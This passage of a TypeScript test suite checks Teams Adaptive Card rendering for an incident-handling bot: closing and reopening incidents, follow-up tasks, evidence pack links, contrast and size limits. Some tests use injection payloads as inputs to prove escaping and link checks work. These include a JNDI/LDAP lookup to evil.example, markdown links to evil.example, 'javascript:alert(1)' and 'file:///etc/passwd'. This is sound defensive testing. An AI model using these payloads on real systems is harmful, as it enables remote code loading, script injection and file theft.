    expect(elements(card).filter((e) => e.type === 'Action.ShowCard').map((a) => a.id)).toEqual(['task-t1', 'task-t2']);
  });

  it('no tasks: no tasks section', () => {
    expect(texts(incidentCard(decided(DECISIONS['no response']!), options()))).not.toContain('Follow-up tasks');
  });
});

describe('incident card: closing', () => {
  it.each(['in-progress', 'resolved'] as const)('%s, canClose: a collapsed "Close the incident" section', (status) => {
    const incident = followedUp({ status });
    const card = incidentCard(incident, options({ now: LATER, canClose: true }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expectFollowUpData(card, incident);
    const section = showCard(card, 'Close the incident')!;
    expect(section).toBeDefined();
    const sub = section.card as Json;
    expect(inputs(sub)).toEqual([
      expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.closeOutcome, label: 'Outcome (required)', isMultiline: true, maxLength: 2000 }),
      // Default policy: a personal attack naming staff is medium severity, so lessons are optional.
      expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.lessonsLearnt, label: 'Lessons learnt (optional)', isMultiline: true, maxLength: 2000 }),
    ]);
    expect(texts(sub).join(' ')).toMatch(/fed back through practice meetings.*the practice's social media policy/);
    expect(executes(sub).map((a) => [a.title, a.verb])).toEqual([['Close incident', INCIDENT_VERBS.close]]);
  });

  it.each([
    ['critical', true],
    ['high', true],
    ['medium', false],
    ['low', false],
  ] as const)('%s severity: lessons learnt required = %s', (severity, required) => {
    const card = incidentCard(followedUp({ severity }), options({ canClose: true }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expect(inputById(card, INCIDENT_INPUTS.lessonsLearnt)).toMatchObject({ label: `Lessons learnt (${required ? 'required' : 'optional'})` });
    expect(inputById(card, INCIDENT_INPUTS.lessonsLearnt)).not.toHaveProperty('isRequired');
  });

  it('says how many tasks are still open', () => {
    const sub = showCard(incidentCard(followedUp(), options({ canClose: true })), 'Close the incident')!.card as Json;
    expect(texts(sub)[0]).toMatch(/^2 follow-up tasks are still open/);
    const resolved = followedUp({ status: 'resolved', tasks: [TASKS[2]!] });
    expect(texts(showCard(incidentCard(resolved, options({ canClose: true })), 'Close the incident')!.card as Json)[0]).toBe('Record how it ended. A manager can reopen it later.');
  });

  it.each([
    ['without canClose', followedUp(), {}],
    ['canClose false', followedUp(), { canClose: false }],
    ['awaiting a decision', routed(), { canClose: true }],
    ['already closed', closed(), { canClose: true }],
  ] as const)('no close section %s', (_, incident, extra) => {
    const card = incidentCard(incident, options(extra));
    expect(showCard(card, 'Close the incident')).toBeUndefined();
    expect(executeNamed(card, INCIDENT_VERBS.close)).toEqual([]);
    expect(inputById(card, INCIDENT_INPUTS.closeOutcome)).toBeUndefined();
  });

  it.each([INCIDENT_INPUTS.closeOutcome, INCIDENT_INPUTS.lessonsLearnt])('an error on %s: the section opens in the body, the error beneath the box', (id) => {
    const message = `Problem [x](http://evil.example) with ${id}`;
    const card = incidentCard(followedUp(), options({ canClose: true, errors: { [id]: message } }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expect(showCard(card, 'Close the incident')).toBeUndefined();
    const open = section(card, 'incident-close')!;
    expect(texts(open)[0]).toBe('Close the incident');
    const { list, index } = siblings(card, inputById(card, id)!);
    expect(list).toBe(open.items);
    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText(message), weight: 'Bolder' });
    expect(verbsIn(open)).toEqual([INCIDENT_VERBS.close]);
  });
});

describe('incident card: closed and reopened', () => {
  it.each(['decider', 'readonly'] as const)('%s view: the closure, escaped: outcome, lessons learnt, who and when', (view) => {
    const card = incidentCard(closed(), options({ view }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    const list = texts(card);
    const at = list.indexOf('Closed');
    expect(list.slice(at, at + 6)).toEqual([
      'Closed',
      'Closed by Pat Manager on 5 Nov 2026, 09:30',
      'Outcome',
      plainText(CLOSURE.outcome),
      'Lessons learnt',
      plainText(CLOSURE.lessonsLearnt),
    ]);
    expect(texts(card).some((t) => t.startsWith('Closed · reported '))).toBe(true);
    expect(liveMarkdown(all(card))).toEqual([]);
  });

  it('no lessons learnt recorded: says so', () => {
    const { lessonsLearnt: _none, ...closure } = CLOSURE;
    expect(texts(incidentCard(closed({ closure }), options()))).toContain('None recorded.');
  });

  it('reopenings: who, when and why, escaped, most recent last; more than five are counted', () => {
    const reopenings: Reopening[] = Array.from({ length: 7 }, (_, i) => ({ by: MANAGER, at: `2026-11-0${i + 1}T10:00:00Z`, reason: `Reason ${i} **again** [x](http://evil.example)` }));
    const card = incidentCard(followedUp({ reopenings }), options({ view: 'readonly' }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    const list = texts(card);
    expect(actions(card).find((a) => a.title === 'History: 7 reopenings')).toMatchObject({ type: 'Action.ToggleVisibility', targetElements: ['history'] });
    const at = list.indexOf('History: 7 reopenings') >= 0 ? -1 : list.findIndex((t) => t === '2 earlier reopenings are kept in the record.') - 1;
    expect(list[at + 1]).toBe('2 earlier reopenings are kept in the record.');
    expect(list.slice(at + 2, at + 4)).toEqual(['Reopened by Pat Manager on 3 Nov 2026, 10:00', plainText('Reason: Reason 2 **again** [x](http://evil.example)')]);
    expect(list.filter((t) => t.startsWith('Reopened by '))).toHaveLength(5);
    expect(list.filter((t) => t.startsWith('Reopened by ')).at(-1)).toBe('Reopened by Pat Manager on 7 Nov 2026, 10:00');
  });

  it('closed, canReopen: a collapsed Reopen section with a required reason', () => {
    const incident = closed();
    const card = incidentCard(incident, options({ view: 'readonly', canReopen: true }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expectFollowUpData(card, incident);
    const sub = showCard(card, 'Reopen')!.card as Json;
    expect(inputs(sub)).toEqual([expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.reopenReason, label: 'Why reopen it? (required)', maxLength: 2000 })]);
    expect(executes(sub).map((a) => [a.title, a.verb])).toEqual([['Reopen', INCIDENT_VERBS.reopen]]);
    expect(texts(sub)[0]).toBe('It goes back to "In progress"; the reason is kept with the record.');
  });

  it.each([
    ['closed, without canReopen', closed(), {}],
    ['in progress, canReopen', followedUp(), { canReopen: true }],
    ['resolved, canReopen', followedUp({ status: 'resolved' }), { canReopen: true }],
  ] as const)('no Reopen: %s', (_, incident, extra) => {
    const card = incidentCard(incident, options(extra));
    expect(showCard(card, 'Reopen')).toBeUndefined();
    expect(executeNamed(card, INCIDENT_VERBS.reopen)).toEqual([]);
    expect(inputById(card, INCIDENT_INPUTS.reopenReason)).toBeUndefined();
  });

  it('an error on the reason: Reopen opens in the body, the error beneath the box', () => {
    const card = incidentCard(closed(), options({ canReopen: true, errors: { reopenReason: 'Say why [x](http://evil.example)' } }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    const open = section(card, 'incident-reopen')!;
    const { list, index } = siblings(card, inputById(card, INCIDENT_INPUTS.reopenReason)!);
    expect(list).toBe(open.items);
    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText('Say why [x](http://evil.example)'), weight: 'Bolder' });
  });

  it('a closed incident offers neither decisions nor marking tasks done', () => {
    const card = incidentCard(closed(), options({ canReopen: true, canClose: true }));
    expect(inputs(card).map((i) => i.id)).toEqual([INCIDENT_INPUTS.reopenReason]);
  });
});

describe('incident card: the evidence pack', () => {
  const packs = (card: Json) => executeNamed(card, INCIDENT_VERBS.pack);

  it.each([
    ['decider, undecided', () => incidentCard(routed(), options())],
    ['decider, in progress', () => incidentCard(followedUp(), options())],
    ['decider, closed', () => incidentCard(closed(), options())],
    ['read-only, closed, a manager who can reopen', () => incidentCard(closed(), options({ view: 'readonly', canReopen: true }))],
    ['read-only, closed, a decider who can close', () => incidentCard(closed(), options({ view: 'readonly', canClose: true }))],
  ])('%s: an "Evidence pack" button with the incident ids only, no inputs', (_, make) => {
    const card = make();
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expect(packs(card)).toHaveLength(1);
    const pack = packs(card)[0]!;
    expect(pack).toMatchObject({ title: 'Evidence pack', data: { practiceId: 'wickersley', reference: 'PW-2026-0042', version: expect.any(Number) } });
    expect(Object.keys(pack.data as Json).sort()).toEqual([...INCIDENT_DATA_KEYS].sort());
    expect(pack.associatedInputs === undefined || pack.associatedInputs === 'none').toBe(true);
    const container = body(card).find((e) => elements(e).includes(pack))!;
    expect(inputs(container)).toEqual([]);
  });

  it.each([
    ['read-only, undecided', () => incidentCard(routed(), options({ view: 'readonly' }))],
    ['read-only, in progress, the task owner', () => incidentCard(followedUp(), options({ view: 'readonly', viewerAadObjectId: OWNER.aadObjectId }))],
    ['read-only, closed, nobody in particular', () => incidentCard(closed(), options({ view: 'readonly' }))],
  ])('%s: no evidence pack', (_, make) => {
    const card = make();
    expect(packs(card)).toEqual([]);
    expect(texts(card)).not.toContain('Evidence pack');
  });
});

describe('incident card: follow-through text is data', () => {
  function pair(view: IncidentCardOptions['view'], status: IncidentStatus): [Json, Json] {
    const make = (t: (s: string) => string) => {
      const tasks: Task[] = [
        { ...TASKS[0]!, title: t(HOSTILE_SHORT), owner: { ...OWNER, name: t(HOSTILE_SHORT) } },
        { ...TASKS[2]!, outcome: t(HOSTILE), doneBy: { ...MANAGER, name: t(HOSTILE_SHORT) } },
      ];
      const closure: Closure = { outcome: t(HOSTILE), lessonsLearnt: t(HOSTILE), closedBy: { ...MANAGER, name: t(HOSTILE_SHORT) }, closedAt: '2026-11-05T09:30:00Z' };
      const reopenings: Reopening[] = [{ by: { ...MANAGER, name: t(HOSTILE_SHORT) }, at: '2026-11-04T09:00:00Z', reason: t(HOSTILE) }];
      const incident = followedUp({ status, tasks: status === 'closed' ? tasks.map((x) => ({ ...x, status: 'done' as const })) : tasks, reopenings, ...(status === 'closed' ? { closure } : {}) });
      return incidentCard(
        incident,
        options({
          view,
          viewerAadObjectId: OWNER.aadObjectId,
          canClose: true,
          canReopen: true,
          now: LATER,
          errors: { outcome_t1: t(HOSTILE_SHORT), closeOutcome: t(HOSTILE_SHORT), lessonsLearnt: t(HOSTILE_SHORT), reopenReason: t(HOSTILE_SHORT) },
        }),
      );
    };
    return [make((x) => x), make((x) => x.replace(/[^\n]/g, 'a'))];
  }

  it.each([
    ['decider', 'in-progress'],
    ['readonly', 'in-progress'],
    ['decider', 'closed'],
    ['readonly', 'closed'],
  ] as const)('%s, %s: outcomes, lessons, reasons and names stay literal', (view, status) => {
    const [hostile, benign] = pair(view, status);
    expect(problems(hostile, { userText: USER_TEXT })).toEqual([]);
    expect(shape(hostile)).toEqual(shape(benign));
    const shown = all(hostile);
    expect(liveMarkdown(shown)).toEqual([]);
    expect(shown).toContain('${jndi:ldap://evil.example/a}');
    expect(shown).not.toContain('Shortened to fit');
    expect(texts(hostile)).toContain(plainText(`Reason: ${HOSTILE}`));
    if (status === 'closed') expect(texts(hostile).filter((t) => t === plainText(HOSTILE))).toHaveLength(2);
    else expect(texts(hostile)).toContain(plainText(`What happened: ${HOSTILE}`));
    expect(JSON.stringify(hostile)).not.toContain('"Action.OpenUrl","url"');
  });
});

// ---- the worst case with the follow-through ------------------------------------------------------------

const LONG_OUTCOME = (HOSTILE + '\n').repeat(10).slice(0, 1_000);
const LONG_CLOSURE = (HOSTILE + '\n').repeat(20).slice(0, 2_000);

function worstFollowThrough(opts: { status: 'in-progress' | 'closed'; openTasks: number }): Incident {
  const base = hostileIncident({ questions: 10, screenshots: 25, decision: { ...DECISIONS.actions!, by: { aadObjectId: 'aad-manager', name: HOSTILE_SHORT } } });
  const tasks: Task[] = Array.from({ length: 15 }, (_, i) => {
    const task: Task = {
      id: `t${i + 1}`,
      actionId: `action-${i}`,
      // Titles come from the practice's policy (the recommended actions), not from anyone's typing.
      title: 'Ask the author to remove the post, and keep a copy of the request',
      owner: { aadObjectId: i % 2 === 0 ? OWNER.aadObjectId : 'aad-other', name: HOSTILE_SHORT },
      dueAt: '2026-11-03T16:00:00Z',
      status: 'open',
    };
    return i < opts.openTasks ? task : { ...task, status: 'done', outcome: LONG_OUTCOME, doneBy: { aadObjectId: 'aad-other', name: HOSTILE_SHORT }, doneAt: '2026-11-04T10:00:00Z' };
  });
  const reopenings: Reopening[] = Array.from({ length: 7 }, (_, i) => ({ by: { aadObjectId: 'aad-manager', name: HOSTILE_SHORT }, at: `2026-11-0${i + 1}T10:00:00Z`, reason: LONG_CLOSURE }));
  const closure: Closure = { outcome: LONG_CLOSURE, lessonsLearnt: LONG_CLOSURE, closedBy: { aadObjectId: 'aad-manager', name: HOSTILE_SHORT }, closedAt: '2026-11-05T09:30:00Z' };
  return {
    ...base,
    status: opts.status,
    handling: { ...base.handling!, tasks, reopenings, ...(opts.status === 'closed' ? { closure } : {}) },
  };
}

/** Every error there can be: one on every input, and one on every task's outcome. */
function worstOptions(view: IncidentCardOptions['view']): IncidentCardOptions {
  const errors = { ...ALL_ERRORS, ...Object.fromEntries(Array.from({ length: 15 }, (_, i) => [`outcome_t${i + 1}`, ALL_ERRORS.question!])) };
  return { ...hostileOptions(view), now: LATER, viewerAadObjectId: OWNER.aadObjectId, canClose: true, canReopen: true, errors };
}

const WORST_USER_TEXT = [...USER_TEXT, LONG_OUTCOME, LONG_CLOSURE];

describe('incident card: worst case with tasks, closure and reopenings', () => {
  const variants: Array<[string, () => [Incident, IncidentCardOptions]]> = [
    ['decider, closed, 15 done tasks with long outcomes, 2,000-character closure, 7 reopenings', () => [worstFollowThrough({ status: 'closed', openTasks: 0 }), worstOptions('decider')]],
    ['read-only manager, closed', () => [worstFollowThrough({ status: 'closed', openTasks: 0 }), worstOptions('readonly')]],
    ['decider, in progress, 15 tasks (8 open, every one with an error)', () => [worstFollowThrough({ status: 'in-progress', openTasks: 8 }), worstOptions('decider')]],
    ['decider, in progress, 15 open tasks with errors', () => [worstFollowThrough({ status: 'in-progress', openTasks: 15 }), worstOptions('decider')]],
    ['decider, in progress, 15 open tasks, no errors', () => [worstFollowThrough({ status: 'in-progress', openTasks: 15 }), { ...worstOptions('decider'), errors: {} }]],
    ['read-only owner, in progress, 8 open', () => [worstFollowThrough({ status: 'in-progress', openTasks: 8 }), worstOptions('readonly')]],
  ];

  it.each(variants)('%s: a valid card under 28 KB', (_, make) => {
    const [incident, opts] = make();
    const card = incidentCard(incident, opts);
    expect(problems(card, { userText: WORST_USER_TEXT })).toEqual([]);
    expect(bytes(card)).toBeLessThan(TEAMS_MAX_BYTES);
    expectFollowUpData(card, incident);
    expect(liveMarkdown(all(card))).toEqual([]);
    expect(elements(card).filter((e) => e.type === 'ColumnSet')).toEqual([]);
    // Every task is still listed: shortened, never dropped.
    expect(elements(card).filter((e) => e.type === 'Container' && texts(e)[1]?.match(/^(Open|Done) · Owner: /) && (e.items as Json[])[1]?.text === texts(e)[1])).toHaveLength(15);
  });

  it('closed: outcomes, the closure and reasons are shortened, and the card says so', () => {
    const card = incidentCard(worstFollowThrough({ status: 'closed', openTasks: 0 }), worstOptions('decider'));
    expect(bytes(card)).toBeLessThan(TEAMS_MAX_BYTES);
    expect(texts(card)).toContain('15 outcomes are shortened to fit the card; the full text is kept in the record.');
    expect(texts(card)).toContain('Shortened to fit the card; the full text is kept in the record.');
    const reopened = texts(card).filter((t) => t.startsWith('Reopened by '));
    expect(reopened.at(-1)).toMatch(/ on 7 Nov 2026, 10:00$/);
    expect(texts(card)).toContain(`${7 - reopened.length} earlier reopenings are kept in the record. Reasons are shortened to fit the card; the full text is kept in the record.`);
    const outcome = texts(card).find((t) => t.startsWith('What happened: '))!;
    expect(outcome.length).toBeLessThan(plainText(`What happened: ${LONG_OUTCOME}`).length);
    expect(outcome.endsWith('…')).toBe(true);
    // Recommendations without their reasons and sources say so.
    expect(texts(card).filter((t) => t.startsWith('Source: '))).toEqual([]);
    expect(texts(card)).toContain('Reasons and sources are left out to fit the card; they are kept in the record.');
  });

  it('every open task the viewer may act on keeps its form, and every error its place', () => {
    const incident = worstFollowThrough({ status: 'in-progress', openTasks: 15 });
    const card = incidentCard(incident, worstOptions('decider'));
    // Close sits with the decision buttons, above the tasks.
    expect(inputs(card).map((i) => i.id)).toEqual([INCIDENT_INPUTS.closeOutcome, INCIDENT_INPUTS.lessonsLearnt, ...Array.from({ length: 15 }, (_, i) => `outcome_t${i + 1}`)]);
    for (let i = 1; i <= 15; i++) {
      const { list, index } = siblings(card, inputById(card, `outcome_t${i}`)!);
      expect(list[index + 1]).toMatchObject({ type: 'TextBlock', weight: 'Bolder' });
    }
    expect(taskDoneActions(card).map((a) => (a.data as Json).taskId)).toEqual(Array.from({ length: 15 }, (_, i) => `t${i + 1}`));
  });
});

// ---- the checker on the follow-through contract -----------------------------------------------------

describe('the card checker: follow-through verbs and the download link', () => {
  const good = () => incidentCard(followedUp(), options({ now: LATER }));
  const taskDone = (c: Json) => taskDoneActions(c)[0]!;
  const broken: Array<[string, (c: Json) => void, RegExp]> = [
    ['taskDone without its taskId', (c) => delete (taskDone(c).data as Json).taskId, /not exactly practiceId,reference,version,taskId/],
    ['taskDone with an empty taskId', (c) => ((taskDone(c).data as Json).taskId = ''), /taskId is not a non-empty string/],
    ['taskDone with the owner in its data', (c) => ((taskDone(c).data as Json).owner = 'aad-owner'), /not exactly/],
    ['a taskId on another incident verb', (c) => ((executeNamed(c, INCIDENT_VERBS.pack)[0]!.data as Json).taskId = 't1'), /not exactly practiceId,reference,version$/m],
    ['a register.page without a page', (c) => ((c.actions ??= []) as Json[]).push({ type: 'Action.Execute', title: 'Next', verb: 'register.page', data: {} }), /page/],
    ['a register.page with a page as text', (c) => ((c.actions ??= []) as Json[]).push({ type: 'Action.Execute', title: 'Next', verb: 'register.page', data: { page: '1' } }), /page is not a whole number/],
    ['the download link on the incident card', (c) => ((c.actions ??= []) as Json[]).push({ type: 'Action.OpenUrl', ...DOWNLOAD_ACTION, url: 'https://postwatch.example/p' }), /only allowed on the evidence pack card/],
  ];
  it('passes the good card', () => expect(problems(good(), { userText: FOLLOW_USER_TEXT })).toEqual([]));
  it.each(broken)('catches %s', (_, breakIt, expected) => {
    const card = structuredClone(good());
    breakIt(card);
    expect(problems(card).join('\n')).toMatch(expected);
  });
});

// ---- the evidence pack card ---------------------------------------------------------------------------

describe('evidence pack card', () => {
  const HASH = 'AB'.repeat(32);
  const PACK = {
    reference: 'PW-2026-0042',
    url: 'https://postwatch.example/packs/wickersley/PW-2026-0042?expires=1793800000&sig=abc%2Bdef',
    expiresAt: new Date('2026-11-03T15:15:00Z'),
    sha256: HASH,
    fileName: 'PW-2026-0042-evidence.zip',
  };

  it('the reference, a download link to the given URL, the expiry (UK time), the hash, the file name and the warning', () => {
    const card = evidencePackCard(PACK);
    expect(problems(card, { openUrl: PACK.url })).toEqual([]);
    expect(card.version).toBe('1.5');
    expect(card.refresh).toBeUndefined();
    expect(actions(card)).toEqual([{ type: 'Action.OpenUrl', id: DOWNLOAD_ACTION.id, title: 'Download evidence pack', url: PACK.url }]);
    expect(inputs(card)).toEqual([]);
    expect(texts(card)).toEqual(expect.arrayContaining(['Evidence pack', 'PW-2026-0042', HASH.toLowerCase(), 'SHA-256 of the pack']));
    expect(fact(card, 'File')).toBe('PW-2026-0042-evidence.zip');
    expect(fact(card, 'Link works until')).toBe('3 Nov 2026, 15:15');
    expect(texts(card)).toContain('This link is for you only, works once and stops working at 3 Nov 2026, 15:15. Do not forward it; the pack contains personal data.');
    expect(textBlocks(card).find((t) => String(t.text).startsWith('This link is for you only'))).toMatchObject({ weight: 'Bolder' });
  });

  it('summer time: the expiry is BST', () => {
    const card = evidencePackCard({ ...PACK, expiresAt: new Date('2026-07-01T12:00:00Z') });
    expect(texts(card)).toContain('This link is for you only, works once and stops working at 1 Jul 2026, 13:00. Do not forward it; the pack contains personal data.');
  });

  it('a note instead of a hash is shown as text, escaped', () => {
    const card = evidencePackCard({ ...PACK, sha256: 'listed in the pack (manifest.json) **x**', fileName: '[pack](http://evil.example).zip' });
    expect(problems(card, { openUrl: PACK.url })).toEqual([]);
    expect(texts(card)).toEqual(expect.arrayContaining(['SHA-256 hashes', plainText('listed in the pack (manifest.json) **x**')]));
    expect(fact(card, 'File')).toBe(plainText('[pack](http://evil.example).zip'));
    expect(texts(card).join(' ')).not.toMatch(/Check that the file/);
  });

  it.each(['javascript:alert(1)', 'file:///etc/passwd', 'not a url', '/relative/path'])('refuses a link that is not http(s): %s', (url) => {
    expect(() => evidencePackCard({ ...PACK, url })).toThrow(/download link/);
  });

  const broken: Array<[string, (c: Json) => void, RegExp]> = [
    ['another URL than the one issued', (c) => ((c.actions as Json[])[0]!.url = 'https://evil.example/'), /not the one the bot issued/],
    ['a second OpenUrl', (c) => ((c.actions ??= []) as Json[]).push({ type: 'Action.OpenUrl', title: 'More', url: PACK.url }), /only Action.Execute/],
    ['the link inside the body', (c) => body(c).push({ type: 'ActionSet', actions: [(c.actions as Json[]).pop()] }), /not one of the card's own actions/],
    ['an input beside the link', (c) => body(c).push({ type: 'Input.Text', id: 'x', label: 'X' }), /only allowed on the evidence pack card/],
    ['a refresh beside the link', (c) => (c.refresh = { action: { type: 'Action.Execute', title: 'R', verb: INCIDENT_VERBS.refresh, data: { practiceId: 'p', reference: 'r', version: 1 } } }), /only allowed on the evidence pack card/],
    ['a javascript: link', (c) => ((c.actions as Json[])[0]!.url = 'javascript:alert(1)'), /not http\(s\)/],
  ];
  it.each(broken)('the checker catches %s', (_, breakIt, expected) => {
    const card = structuredClone(evidencePackCard(PACK));
    breakIt(card);
    expect(problems(card, { openUrl: PACK.url }).join('\n')).toMatch(expected);
  });
});

// ---- phone-first: contrast in every Teams theme, and the worst case under 28 KB -------------------------

describe('incident card colours: 4.5:1 in Teams light, dark and high contrast', () => {
  it('the checker fails what it must: Teams warning text on white, attention text on dark', () => {
    expect(contrast('#000000', '#ffffff')).toBeCloseTo(21, 0);
    const warningOnWhite = { type: 'AdaptiveCard', body: [{ type: 'TextBlock', text: 'Careful', color: 'Warning' }] };
    expect(contrastFailures(warningOnWhite).join('\n')).toMatch(/^light: warning text on default is 1\.\d+:1/);
    const errorInShowCard = { type: 'AdaptiveCard', actions: [{ type: 'Action.ShowCard', title: 'X', card: { type: 'AdaptiveCard', body: [{ type: 'TextBlock', text: 'Fix', color: 'Attention' }] } }] };
    expect(contrastFailures(errorInShowCard).join('\n')).toMatch(/dark: attention text on emphasis is 3\.\d+:1/);
    const subtleInAttention = { type: 'AdaptiveCard', body: [{ type: 'Container', style: 'attention', items: [{ type: 'TextBlock', text: 'ok', isSubtle: true }] }] };
    expect(contrastFailures(subtleInAttention)).toEqual([]);
  });

  const VARIANTS: Array<[string, () => [Incident, Partial<IncidentCardOptions>]]> = [
    ['decider, undecided', () => [routed(), {}]],
    ['read-only', () => [routed(), { view: 'readonly' }]],
    ['at risk, repeat author, overdue', () => [routed({ ...FACTS, risk: { atRisk: true } }, 2), { now: new Date('2026-11-05T10:00:00Z') }]],
    ['errors on every input, blocking findings, an attention notice', () => [hostileIncident(), { errors: ALL_ERRORS, replyText: HOSTILE_REPLY, replyFindings: hostileFindings(HOSTILE_REPLY), notice: { tone: 'attention', text: 'Refused.' } }]],
    ['decided, a good notice', () => [decided(DECISIONS['public reply']!), { notice: { tone: 'good', text: 'Done.' } }]],
    ['not routed yet, a default notice', () => [{ ...routed(), handling: undefined }, { notice: { tone: 'default', text: 'Grading.' } }]],
  ];
  it.each(VARIANTS)('%s: every text holds 4.5:1 in every theme, and no coloured text is used', (_, make) => {
    const [incident, overrides] = make();
    const card = incidentCard(incident, options(overrides));
    expect(textColours(card).length).toBeGreaterThan(30);
    expect(contrastFailures(card)).toEqual([]);
    // Warnings, severity and errors are carried by container styles, never by text colour.
    expect(textBlocks(card).filter((t) => t.color !== undefined && t.color !== 'Default')).toEqual([]);
  });
});

describe('incident card worst case: 20 screenshots, 15 actions, long text, every error', () => {
  const FIFTEEN = DEFAULT_POLICY.actions.slice(0, 15);
  function worst(): [Incident, IncidentCardOptions] {
    const incident = hostileIncident({ screenshots: 20, questions: 10 });
    const grading = graded(incident);
    const actions = FIFTEEN.map((a, i) => ({ id: a.id, title: `${a.title} ${HOSTILE_SHORT}`, reason: `${HOSTILE.slice(0, 300)} ${i}`, source: a.source, rule: 'r', guidance: a.guidance }));
    const warnings = DEFAULT_POLICY.warnings.slice(0, 12).map((w) => ({ id: w.id, text: `${w.text} ${HOSTILE.slice(0, 200)}`, source: w.source }));
    const heavy = { ...incident, handling: { ...incident.handling!, grading: { ...grading, actions, warnings } } };
    return [heavy, options({ errors: ALL_ERRORS, replyText: HOSTILE_REPLY, replyFindings: hostileFindings(HOSTILE_REPLY), refreshUserIds: Array.from({ length: 60 }, (_, i) => `29:${i}`) })];
  }

  it.each(['decider', 'readonly'] as const)('%s: a valid card under 28 KB, with the decision buttons still before the recommendations', (view) => {
    const [incident, opts] = worst();
    expect(FIFTEEN).toHaveLength(15);
    expect(incident.facts.evidence.screenshots).toHaveLength(20);
    const card = incidentCard(incident, { ...opts, view });
    expect(problems(card, { userText: USER_TEXT })).toEqual([]);
    expect(bytes(card)).toBeLessThan(TEAMS_MAX_BYTES);
    expect(contrastFailures(card)).toEqual([]);
    const at = (pred: (e: Json) => boolean) => body(card).findIndex(pred);
    const recommendations = at((e) => texts(e)[0] === 'What the policy recommends' || String(texts(e)[0]).startsWith('Recommended first'));
    // Every input has an error here, so every decision section is open where its button was.
    const decision = at((e) => e.id === 'decisions' || String(e.id).startsWith('decide-'));
    if (view === 'decider') {
      expect(decision).toBeGreaterThan(0);
      expect(decision).toBeLessThan(recommendations);
    } else expect(decision).toBe(-1); // no decision sections for a read-only viewer
    expect(at((e) => e.id === 'headline')).toBeLessThan(recommendations);
  });
});
